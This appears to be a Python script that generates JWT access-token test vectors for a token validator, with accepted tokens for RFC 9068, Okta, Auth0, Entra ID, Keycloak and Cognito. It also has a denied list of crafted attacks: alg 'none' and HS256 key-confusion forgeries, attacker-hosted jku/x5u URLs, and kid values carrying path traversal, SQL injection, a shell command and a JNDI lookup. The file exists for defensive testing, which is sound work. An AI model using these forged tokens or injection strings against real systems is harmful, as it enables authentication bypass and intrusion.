"""Makes the access tokens of `tests/vectors/access-tokens.json` with joserfc, and by hand what joserfc refuses to make.

python make_access_tokens.py > tests/vectors/access-tokens.json

Each run makes new keys. Only public keys are written.
"""

import base64
import hashlib
import hmac
import json
import sys

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from joserfc import jwt
from joserfc.jwk import ECKey, OKPKey, RSAKey
from joserfc.jws import JWSRegistry

NOW = 1_800_000_000
RESOURCE = "https://tr.example.com/ssf"
ACME = {"receiver": "acme", "audience": "https://acme.example.com/ssf"}

KEYS = {
    "rsa-1": RSAKey.generate_key(2048),
    "rsa-2": RSAKey.generate_key(3072),
    "ps-1": RSAKey.generate_key(2048),
    "ec-1": ECKey.generate_key("P-256"),
    "ec-384": ECKey.generate_key("P-384"),
    "ec-521": ECKey.generate_key("P-521"),
    "ed-1": OKPKey.generate_key("Ed25519"),
    "enc-1": RSAKey.generate_key(2048),
    "short-1": RSAKey.import_key(
        rsa.generate_private_key(65537, 1024).private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )
    ),
}
MEMBERS = {"ps-1": {"alg": "PS256"}, "ed-1": {"alg": "EdDSA"}, "enc-1": {"use": "enc", "alg": "RSA-OAEP"}}
ATTACKER = RSAKey.generate_key(2048)
ATTACKER_EC = ECKey.generate_key("P-256")

# The settings of the issuers; `{}` in a client or a name would be a rule.
ISSUERS = {
    "rfc9068": {"profile": "rfc9068", "issuer": "https://as.example.com", "clients": {"s6BhdRkqt3": ACME}},
    "okta": {
        "profile": "okta",
        "issuer": "https://acme.okta.com/oauth2/default",
        "audiences": ["api://ssf"],
        "clients": {"0oa1b2c3d4E5f6G7h8i9": ACME},
    },
    "auth0": {
        "profile": "auth0",
        "issuer": "https://acme.eu.auth0.com/",
        "clients": {"kbyuFDidLLm280LIwVFiazOqjO3ty8KH": ACME},
    },
    "entra-id": {
        "profile": "entra-id",
        "issuer": "https://login.microsoftonline.com/aaaabbbb-0000-cccc-1111-dddd2222eeee/v2.0",
        "audiences": ["11112222-bbbb-3333-cccc-4444dddd5555"],
        "clients": {"00001111-aaaa-2222-bbbb-3333cccc4444": ACME},
    },
    "entra-id-v1": {
        "profile": "entra-id",
        "issuer": "https://sts.windows.net/aaaabbbb-0000-cccc-1111-dddd2222eeee/",
        "audiences": ["api://ssf"],
        "clients": {"00001111-aaaa-2222-bbbb-3333cccc4444": ACME},
    },
    "keycloak": {
        "profile": "keycloak",
        "issuer": "https://sso.example.com/realms/acme",
        "audiences": ["ssf"],
        "clients": {"acme-receiver": ACME},
    },
    "cognito": {
        "profile": "cognito",
        "issuer": "https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_Example",
        "scope_names": ["https://tr.example.com/ssf.read", "https://tr.example.com/ssf.manage"],
        "clients": {"1example23456789": ACME},
    },
    "rule": {
        "profile": "rfc9068",
        "issuer": "https://as.example.com",
        "clients": {},
        "rule": ["as:{client}", "https://receivers.example.com/{client}"],
    },
    "narrow": {
        "profile": "rfc9068",
        "issuer": "https://as.example.com",
        "algorithms": ["ES256"],
        "clients": {"s6BhdRkqt3": ACME},
    },
}

RFC9068 = {
    "iss": "https://as.example.com",
    "sub": "s6BhdRkqt3",
    "aud": RESOURCE,
    "client_id": "s6BhdRkqt3",
    "iat": NOW - 10,
    "exp": NOW + 3590,
    "jti": "dbe39bf3a3ba4238a513f51d6e1691c4",
    "scope": "ssf.read ssf.manage",
}


def b64(data):
    if isinstance(data, str):
        data = data.encode()
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def public(kid):
    members = {"kid": kid, "use": "sig", **KEYS[kid].as_dict(private=False), **MEMBERS.get(kid, {})}
    return {**members, "kid": kid}


def sign(claims, alg="RS256", kid="rsa-1", typ="at+jwt", key=None, **header):
    """A token by joserfc."""
    header = {"alg": alg, **({"kid": kid} if kid else {}), **({"typ": typ} if typ else {}), **header}
    return jwt.encode(header, claims, key or KEYS[kid], algorithms=[alg], registry=REGISTRY)


REGISTRY = JWSRegistry(algorithms=list(JWSRegistry.algorithms), strict_check_header=False)


def raw(header, payload, signer):
    """A token of any texts: `signer` gets the signing input."""
    header = header if isinstance(header, str) else json.dumps(header)
    payload = payload if isinstance(payload, str) else json.dumps(payload)
    signed = f"{b64(header)}.{b64(payload)}"
    return f"{signed}.{b64(signer(signed.encode()))}"


def rs256(key):
    private = key.private_key if hasattr(key, "private_key") else key
    return lambda data: private.sign(data, padding.PKCS1v15(), hashes.SHA256())


def es256(key, form=lambda r, s, der: r + s):
    def signer(data):
        der = key.private_key.sign(data, ec.ECDSA(hashes.SHA256()))
        r, s = (number.to_bytes(32, "big") for number in decode_dss_signature(der))
        return form(r, s, der)

    return signer


def pem(key):
    return key.as_pem(private=False)


HEADER = {"alg": "RS256", "kid": "rsa-1", "typ": "at+jwt"}
EC_HEADER = {"alg": "ES256", "kid": "ec-1", "typ": "at+jwt"}


def kinds():
    """One token as each kind of issuer writes it, and its caller's scopes."""
    manage = ["ssf.manage"]
    yield "RFC 9068", "rfc9068", sign(RFC9068), ["ssf.read", "ssf.manage"]
    okta = {
        "ver": 1,
        "jti": "AT.0mP4JKAZX1iACIT4vbEDF7LpvDVjxypPMf0D7uX39RE",
        "iss": "https://acme.okta.com/oauth2/default",
        "aud": "api://ssf",
        "iat": NOW - 10,
        "exp": NOW + 3590,
        "cid": "0oa1b2c3d4E5f6G7h8i9",
        "scp": ["ssf.manage"],
        "sub": "0oa1b2c3d4E5f6G7h8i9",
    }
    yield "Okta: scp is a list, cid, no typ", "okta", sign(okta, typ=None), manage
    auth0 = {
        "iss": "https://acme.eu.auth0.com/",
        "sub": "kbyuFDidLLm280LIwVFiazOqjO3ty8KH@clients",
        "aud": RESOURCE,
        "iat": NOW - 10,
        "exp": NOW + 86390,
        "scope": "ssf.read",
        "gty": "client-credentials",
        "azp": "kbyuFDidLLm280LIwVFiazOqjO3ty8KH",
    }
    yield "Auth0: azp, a day, typ JWT", "auth0", sign(auth0, typ="JWT"), ["ssf.read"]
    permissions = {**auth0, "scope": "", "permissions": ["ssf.read", "ssf.manage"]}
    yield "Auth0: permissions", "auth0", sign(permissions, typ="JWT"), ["ssf.read", "ssf.manage"]
    entra = {
        "aud": "11112222-bbbb-3333-cccc-4444dddd5555",
        "iss": "https://login.microsoftonline.com/aaaabbbb-0000-cccc-1111-dddd2222eeee/v2.0",
        "iat": NOW - 300,
        "nbf": NOW - 300,
        "exp": NOW + 3600,
        "aio": "E2ZgYLh1abHAxxX",
        "azp": "00001111-aaaa-2222-bbbb-3333cccc4444",
        "azpacr": "1",
        "idtyp": "app",
        "oid": "22223333-cccc-4444-dddd-5555eeee6666",
        "rh": "0.AXkAexample",
        "roles": ["ssf.manage", "Other.Role"],
        "sub": "22223333-cccc-4444-dddd-5555eeee6666",
        "tid": "aaaabbbb-0000-cccc-1111-dddd2222eeee",
        "uti": "example",
        "ver": "2.0",
    }
    yield "Entra ID 2.0: roles, azp", "entra-id", sign(entra, typ="JWT"), manage
    delegated = {**{name: value for name, value in entra.items() if name != "roles"}, "scp": "ssf.read openid"}
    yield "Entra ID 2.0: scp is a string", "entra-id", sign(delegated, typ="JWT"), ["ssf.read"]
    first = {
        **{name: value for name, value in entra.items() if name not in ("azp", "azpacr")},
        "aud": "api://ssf",
        "iss": "https://sts.windows.net/aaaabbbb-0000-cccc-1111-dddd2222eeee/",
        "appid": "00001111-aaaa-2222-bbbb-3333cccc4444",
        "appidacr": "1",
        "ver": "1.0",
    }
    yield "Entra ID 1.0: appid", "entra-id-v1", sign(first, typ="JWT"), manage
    keycloak = {
        "exp": NOW + 290,
        "iat": NOW - 10,
        "jti": "trrtcc:5e8d6b0d-5f0e-4f0e-a0a9-7fd4e6d1f5f1",
        "iss": "https://sso.example.com/realms/acme",
        "aud": ["ssf", "account"],
        "sub": "f7a1c5f4-8a7b-4a4c-9a53-2b6a1ef0f3b9",
        "typ": "Bearer",
        "azp": "acme-receiver",
        "acr": "1",
        "realm_access": {"roles": ["offline_access", "uma_authorization"]},
        "resource_access": {"account": {"roles": ["view-profile"]}},
        "scope": "profile ssf.read email",
        "clientHost": "192.0.2.7",
        "clientAddress": "192.0.2.7",
        "client_id": "acme-receiver",
    }
    yield "Keycloak: aud is a list, typ in the claims", "keycloak", sign(keycloak, typ="JWT"), ["ssf.read"]
    cognito = {
        "sub": "1example23456789",
        "token_use": "access",
        "scope": "https://tr.example.com/ssf.read https://tr.example.com/ssf.manage",
        "auth_time": NOW - 10,
        "iss": "https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_Example",
        "exp": NOW + 3590,
        "iat": NOW - 10,
        "version": 2,
        "jti": "5e8d6b0d-5f0e-4f0e-a0a9-7fd4e6d1f5f1",
        "client_id": "1example23456789",
    }
    yield "Cognito: no aud, no typ, long names of scopes", "cognito", sign(cognito, typ=None), ["ssf.read", "ssf.manage"]

    # Other tokens of the same issuers.
    DENIED.extend([
        ("an ID token of Okta", "okta", "not_an_access_token", sign({**okta, "aud": "api://ssf", "nonce": "n", "at_hash": "h"}, typ=None)),
        ("an ID token of Okta, by its audience", "okta", "audience_mismatch", sign({**okta, "aud": "0oa1b2c3d4E5f6G7h8i9"}, typ=None)),
        ("a token of Okta without cid", "okta", "claim_invalid", sign({name: value for name, value in okta.items() if name != "cid"}, typ=None)),
        ("an ID token of Auth0", "auth0", "audience_mismatch", sign({**auth0, "aud": "kbyuFDidLLm280LIwVFiazOqjO3ty8KH"}, typ="JWT")),
        ("an ID token of Entra ID", "entra-id", "not_an_access_token", sign({**entra, "nonce": "n"}, typ="JWT")),
        ("a token of Entra ID of another tenant", "entra-id", "issuer_unknown", sign({**entra, "iss": "https://login.microsoftonline.com/99990000-0000-cccc-1111-dddd2222eeee/v2.0"}, typ="JWT")),
        ("an ID token of Keycloak", "keycloak", "not_an_access_token", sign({**keycloak, "typ": "ID"}, typ="JWT")),
        ("a refresh token of Keycloak", "keycloak", "not_an_access_token", sign({**keycloak, "typ": "Refresh"}, typ="JWT")),
        ("a token of Keycloak without its kind", "keycloak", "claim_invalid", sign({name: value for name, value in keycloak.items() if name != "typ"}, typ="JWT")),
        ("a token of another client of Keycloak for another API", "keycloak", "audience_mismatch", sign({**keycloak, "aud": "account"}, typ="JWT")),
        ("an ID token of Cognito", "cognito", "not_an_access_token", sign({**cognito, "token_use": "id", "aud": "1example23456789"}, typ=None)),
        ("an access token of Cognito with an audience", "cognito", "audience_mismatch", sign({**cognito, "aud": "1example23456789"}, typ=None)),
        ("a logout token", "rfc9068", "not_an_access_token", sign({**RFC9068, "events": {"http://schemas.openid.net/event/backchannel-logout": {}}})),
        ("a SET", "rfc9068", "not_an_access_token", sign(RFC9068, typ="secevent+jwt")),
        ("a DPoP proof", "rfc9068", "not_an_access_token", sign(RFC9068, typ="dpop+jwt")),
        ("typ JWT where the issuer follows RFC 9068", "rfc9068", "not_an_access_token", sign(RFC9068, typ="JWT")),
        ("no typ where the issuer follows RFC 9068", "rfc9068", "not_an_access_token", sign(RFC9068, typ=None)),
    ])


def algorithms():
    both = ["ssf.read", "ssf.manage"]
    for alg, kid in [
        ("RS384", "rsa-1"), ("RS512", "rsa-2"), ("PS256", "ps-1"), ("PS384", "rsa-1"), ("PS512", "rsa-2"),
        ("ES256", "ec-1"), ("ES384", "ec-384"), ("ES512", "ec-521"), ("EdDSA", "ed-1"),
    ]:  # fmt: skip
        yield f"{alg}", "rfc9068", sign(RFC9068, alg, kid), both
    yield "ES256 where nothing else is allowed", "narrow", sign(RFC9068, "ES256", "ec-1"), both


def unusual():
    both = ["ssf.read", "ssf.manage"]
    yield "typ as a media type", "rfc9068", sign(RFC9068, typ="application/at+jwt"), both
    yield "typ in upper case", "rfc9068", sign(RFC9068, typ="AT+JWT"), both
    yield "several audiences", "rfc9068", sign({**RFC9068, "aud": ["https://other.example.com", RESOURCE]}), both
    yield "no scope", "rfc9068", sign({name: value for name, value in RFC9068.items() if name != "scope"}), []
    yield "other scopes", "rfc9068", sign({**RFC9068, "scope": "ssf.reader SSF.READ ssf openid xssf.manage"}), []
    yield "expired within the leeway", "rfc9068", sign({**RFC9068, "iat": NOW - 3000, "exp": NOW - 29}), both
    yield "starts within the leeway", "rfc9068", sign({**RFC9068, "nbf": NOW + 30, "iat": NOW + 30}), both
    yield "times with a fraction", "rfc9068", sign({**RFC9068, "iat": NOW - 10.5, "exp": NOW + 100.25}), both
    yield "header parameters that are not read", "rfc9068", raw({**HEADER, "jku": "https://attacker.example/jwks", "x5u": "https://attacker.example/x5u", "x5t": "dGVzdA"}, RFC9068, rs256(KEYS["rsa-1"])), both
    yield "a number with more digits than a double in another claim", "rfc9068", raw(HEADER, json.dumps(RFC9068)[:-1] + ', "weight": 0.123456789012345678901}', rs256(KEYS["rsa-1"])), both
    yield "claims of ten levels", "rfc9068", sign({**RFC9068, "deep": nested(10)}), both


def nested(levels):
    value = {}
    for _ in range(levels):
        value = {"a": value}
    return value


DENIED = []


def without(name):
    return {other: value for other, value in RFC9068.items() if other != name}


def attacks():
    good = rs256(KEYS["rsa-1"])
    token = sign(RFC9068)
    head, body, signature = token.split(".")

    def deny(name, reason, attack, issuer="rfc9068"):
        DENIED.append((name, issuer, reason, attack))

    # Algorithms.
    for alg in ["none", "None", "NONE", "nOnE", "", "HS256 ", "rs256", "RS1"]:
        deny(f"alg {alg!r} without a signature", "algorithm_not_allowed", raw({**HEADER, "alg": alg}, RFC9068, lambda _: b""))
    deny("alg none with the signature of RS256", "algorithm_not_allowed", raw({**HEADER, "alg": "none"}, RFC9068, good))
    for name, secret in [("PEM", pem(KEYS["rsa-1"])), ("PEM without its last newline", pem(KEYS["rsa-1"]).strip()), ("JWK", json.dumps(public("rsa-1")).encode()), ("modulus", base64.urlsafe_b64decode(public("rsa-1")["n"] + "==")), ("empty key", b"")]:
        deny(f"HS256 with the RSA public key as {name}", "algorithm_not_allowed", raw({**HEADER, "alg": "HS256"}, RFC9068, lambda data, secret=secret: hmac.new(secret, data, hashlib.sha256).digest()))
    deny("no alg", "token_malformed", raw({"kid": "rsa-1", "typ": "at+jwt"}, RFC9068, good))
    deny("alg is a list", "token_malformed", raw({**HEADER, "alg": ["RS256"]}, RFC9068, good))
    deny("an algorithm that the settings exclude", "algorithm_not_allowed", token, "narrow")
    deny("ES256 with the kid of an RSA key", "key_unknown", raw({**EC_HEADER, "kid": "rsa-1"}, RFC9068, es256(KEYS["ec-1"])))
    deny("RS256 with the kid of an EC key", "key_unknown", raw({**HEADER, "kid": "ec-1"}, RFC9068, good))
    deny("RS256 with a key that names PS256", "key_unknown", raw({**HEADER, "kid": "ps-1"}, RFC9068, rs256(KEYS["ps-1"])))
    deny("ES256 with a key of P-384", "key_unknown", raw({**EC_HEADER, "kid": "ec-384"}, RFC9068, es256(KEYS["ec-1"])))
    deny("a key for encryption", "key_unknown", raw({**HEADER, "kid": "enc-1"}, RFC9068, rs256(KEYS["enc-1"])))
    deny("an RSA key of 1024 bits", "key_unknown", raw({**HEADER, "kid": "short-1"}, RFC9068, rs256(KEYS["short-1"])))

    # Signatures.
    deny("the claims of another token", "signature_invalid", f"{head}.{b64(json.dumps({**RFC9068, 'client_id': 'other'}))}.{signature}")
    deny("the header of another token", "signature_invalid", f"{b64(json.dumps({**HEADER, 'x': 1}))}.{body}.{signature}")
    deny("no signature", "signature_invalid", f"{head}.{body}.")
    deny("half a signature", "signature_invalid", f"{head}.{body}.{signature[:171]}")
    deny("an RSA signature of zeros", "signature_invalid", raw(HEADER, RFC9068, lambda _: bytes(256)))
    deny("a longer RSA signature", "signature_invalid", raw(HEADER, RFC9068, lambda data: b"\0" + good(data)))
    for name, form in [
        ("zeros", lambda r, s, der: bytes(64)),
        ("R of zero", lambda r, s, der: bytes(32) + s),
        ("S of zero", lambda r, s, der: r + bytes(32)),
        ("R and S of the order of the curve", lambda r, s, der: bytes.fromhex("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551") * 2),
        ("DER", lambda r, s, der: der),
        ("63 bytes", lambda r, s, der: (r + s)[:63]),
        ("65 bytes", lambda r, s, der: r + s + b"\0"),
        ("66 bytes, each number with a zero", lambda r, s, der: b"\0" + r + b"\0" + s),
        ("no bytes", lambda r, s, der: b""),
        ("R and S exchanged", lambda r, s, der: s + r),
    ]:
        deny(f"ES256 with a signature of {name}", "signature_invalid", raw(EC_HEADER, RFC9068, es256(KEYS["ec-1"], form)))
    deny("EdDSA with a signature of zeros", "signature_invalid", raw({**HEADER, "alg": "EdDSA", "kid": "ed-1"}, RFC9068, lambda _: bytes(64)))
    deny("EdDSA with the neutral element", "signature_invalid", raw({**HEADER, "alg": "EdDSA", "kid": "ed-1"}, RFC9068, lambda _: b"\x01" + bytes(63)))

    # Keys.
    for name, kid in [
        ("a path", "../../../../../../dev/null"), ("a path with a null byte", "rsa-1\0.pem"), ("SQL", "x' UNION SELECT 'secret' --"),
        ("a command", "rsa-1; touch /tmp/x"), ("a URL", "https://attacker.example/jwks.json#rsa-1"), ("a long text", "rsa-1" * 600),
        ("an empty text", ""), ("another case", "RSA-1"), ("a space at its end", "rsa-1 "), ("a template", "${jndi:ldap://attacker.example/a}"),
    ]:  # fmt: skip
        deny(f"a kid that is {name}", "key_unknown", raw({**HEADER, "kid": kid}, RFC9068, rs256(ATTACKER)))
    for kid in [1, None, ["rsa-1"], {"kid": "rsa-1"}]:
        deny(f"a kid that is {json.dumps(kid)}", "token_malformed", raw({**HEADER, "kid": kid}, RFC9068, good))
    jwk = {**ATTACKER.as_dict(private=False), "kid": "rsa-1"}
    certificate = b64(ATTACKER.public_key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo))
    for name, member in [("jwk", jwk), ("jku", "https://attacker.example/jwks"), ("x5u", "https://attacker.example/cert"), ("x5c", [certificate])]:
        deny(f"{name} with the attacker's key, under a kid of the issuer", "signature_invalid", raw({**HEADER, name: member}, RFC9068, rs256(ATTACKER)))
        deny(f"{name} with the attacker's key, without kid", "key_unknown", raw({"alg": "RS256", "typ": "at+jwt", name: member}, RFC9068, rs256(ATTACKER)))
    deny("no kid where several keys fit", "key_unknown", raw({"alg": "RS256", "typ": "at+jwt"}, RFC9068, good))
    for name, crit in [("exp", ["exp"]), ("nothing", []), ("b64", ["b64"]), ("null", None)]:
        deny(f"crit with {name}", "header_critical", raw({**HEADER, "crit": crit, "b64": True}, RFC9068, good))

    # Form.
    deny("a claim twice", "token_malformed", raw(HEADER, json.dumps(RFC9068)[:-1] + ', "client_id": "other"}', good))
    deny("iss twice", "token_malformed", raw(HEADER, '{"iss": "https://attacker.example", ' + json.dumps(RFC9068)[1:], good))
    deny("a claim twice, once escaped", "token_malformed", raw(HEADER, json.dumps(RFC9068)[:-1] + ', "client\\u005fid": "other"}', good))
    deny("a member twice inside a claim", "token_malformed", raw(HEADER, json.dumps(RFC9068)[:-1] + ', "x": {"a": 1, "a": 2}}', good))
    deny("alg twice", "token_malformed", raw('{"alg": "none", "alg": "RS256", "kid": "rsa-1", "typ": "at+jwt"}', RFC9068, good))
    deny("claims of 100 levels", "token_malformed", sign({**RFC9068, "deep": nested(100)}))
    deny("a header of 100 levels", "token_malformed", raw({**HEADER, "deep": nested(100)}, RFC9068, good))
    deny("lists of 3000 levels", "token_malformed", raw(HEADER, json.dumps(RFC9068)[:-1] + ', "deep": ' + "[" * 3000 + "]" * 3000 + "}", good))
    deny("claims that are a list", "token_malformed", raw(HEADER, "[]", good))
    deny("claims that are not JSON", "token_malformed", raw(HEADER, "{", good))
    deny("text after the claims", "token_malformed", raw(HEADER, json.dumps(RFC9068) + "{}", good))
    deny("a byte order mark", "token_malformed", raw(HEADER, "\ufeff" + json.dumps(RFC9068), good))
    deny("half a surrogate pair", "token_malformed", raw(HEADER, json.dumps(RFC9068)[:-1] + ', "x": "\\ud800"}', good))
    deny("two parts", "token_malformed", f"{head}.{body}")
    deny("five parts, as a JWE", "token_malformed", f"{head}..{body}.{signature}.{signature}")
    deny("padding", "token_malformed", f"{head}.{body}.{signature}==")
    deny("the alphabet of base64", "token_malformed", f"{head}.{body}.+/{signature[2:]}")
    deny("a space", "token_malformed", f"{head}.{body} .{signature}")
    deny("empty parts", "token_malformed", "..")

    # Claims.
    for name, iss in [
        ("another", "https://attacker.example"), ("a slash more", "https://as.example.com/"), ("another case", "https://AS.example.com"),
        ("a longer host", "https://as.example.com.attacker.example"), ("http", "http://as.example.com"), ("a list", ["https://as.example.com"]), ("null", None),
    ]:  # fmt: skip
        deny(f"an issuer with {name}", "issuer_unknown", sign({**RFC9068, "iss": iss}))
    deny("no issuer", "issuer_unknown", sign(without("iss")))
    for name, aud in [
        ("another API", "https://other.example.com"), ("a prefix of ours", "https://tr.example.com"), ("a slash more", RESOURCE + "/"),
        ("an empty list", []), ("a list of others", ["a", "b"]), ("the client", "s6BhdRkqt3"),
    ]:  # fmt: skip
        deny(f"an audience that is {name}", "audience_mismatch", sign({**RFC9068, "aud": aud}))
    deny("no audience", "audience_mismatch", sign(without("aud")))
    for name, aud in [("a number", 1), ("null", None), ("an object", {RESOURCE: True}), ("a list with a number", [RESOURCE, 1])]:
        deny(f"an audience that is {name}", "claim_invalid", sign({**RFC9068, "aud": aud}))
    deny("expired", "token_expired", sign({**RFC9068, "iat": NOW - 3600, "exp": NOW - 31}))
    deny("expired at the end of the leeway", "token_expired", sign({**RFC9068, "iat": NOW - 3600, "exp": NOW - 30}))
    deny("expired in 1969", "token_expired", sign({**RFC9068, "exp": -1}))
    for name, exp in [("a string", str(NOW + 60)), ("null", None), ("true", True), ("in milliseconds", (NOW + 60) * 1000), ("1e300", 1e300)]:
        deny(f"exp is {name}", "claim_invalid", sign({**RFC9068, "exp": exp}))
    deny("no exp", "claim_invalid", sign(without("exp")))
    deny("not yet valid by nbf", "token_not_yet_valid", sign({**RFC9068, "nbf": NOW + 31}))
    deny("not yet valid by iat", "token_not_yet_valid", sign({**RFC9068, "iat": NOW + 31}))
    deny("nbf is a string", "claim_invalid", sign({**RFC9068, "nbf": "now"}))
    deny("valid for a day", "lifetime_too_long", sign({**RFC9068, "exp": NOW + 86400}))
    deny("valid for a second more than an hour", "lifetime_too_long", sign({**RFC9068, "exp": NOW + 3591}))
    for name in ["sub", "client_id", "iat", "jti"]:
        deny(f"no {name}", "claim_invalid", sign(without(name)))
    for name, client in [("a number", 1), ("empty", ""), ("a list", ["s6BhdRkqt3"])]:
        deny(f"a client id that is {name}", "claim_invalid", sign({**RFC9068, "client_id": client}))
    deny("a client that is no receiver", "client_unknown", sign({**RFC9068, "client_id": "other"}))
    deny("a client id with a space, under a rule", "client_unknown", sign({**RFC9068, "client_id": "a b"}), "rule")
    deny("a client id of 300 characters, under a rule", "client_unknown", sign({**RFC9068, "client_id": "a" * 300}), "rule")
    for name, scope in [("a number", 1), ("an object", {"ssf.manage": True}), ("a list with a number", ["ssf.manage", 1])]:
        deny(f"a scope that is {name}", "claim_invalid", sign({**RFC9068, "scope": scope}))
    deny("bound to a key (DPoP)", "token_bound", sign({**RFC9068, "cnf": {"jkt": "0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I"}}))
    deny("bound to a certificate", "token_bound", sign({**RFC9068, "cnf": {"x5t#S256": "bwcK0esc3ACC3DB2Y5_lESsXE8o9ltc05O89jdN-dg2"}}))


def main():
    accepted = [
        {"name": name, "issuer": issuer, "token": token, "caller": {**ACME, "scopes": scopes}}
        for name, issuer, token, scopes in [*kinds(), *algorithms(), *unusual()]
    ]
    only = {"name": "no kid, and one key that fits", "issuer": "rfc9068", "keys": ["rsa-1", "ec-1"]}
    accepted.append({**only, "token": sign(RFC9068, key=KEYS["rsa-1"], kid=None), "caller": {**ACME, "scopes": ["ssf.read", "ssf.manage"]}})
    ruled = {"receiver": "as:mobile-42", "audience": "https://receivers.example.com/mobile-42", "scopes": ["ssf.read", "ssf.manage"]}
    accepted.append({"name": "a rule", "issuer": "rule", "token": sign({**RFC9068, "client_id": "mobile-42"}), "caller": ruled})
    attacks()
    document = {
        "note": "Made by tests/interop/make_access_tokens.py with joserfc. The keys were made for these cases.",
        "now": NOW,
        "resource": RESOURCE,
        "issuers": ISSUERS,
        "jwks": {"keys": [public(kid) for kid in KEYS]},
        "accepted": accepted,
        "denied": [{"name": name, "issuer": issuer, "token": token, "reason": reason} for name, issuer, reason, token in DENIED],
    }
    json.dump(document, sys.stdout, indent=1, ensure_ascii=True)
    print()


main()
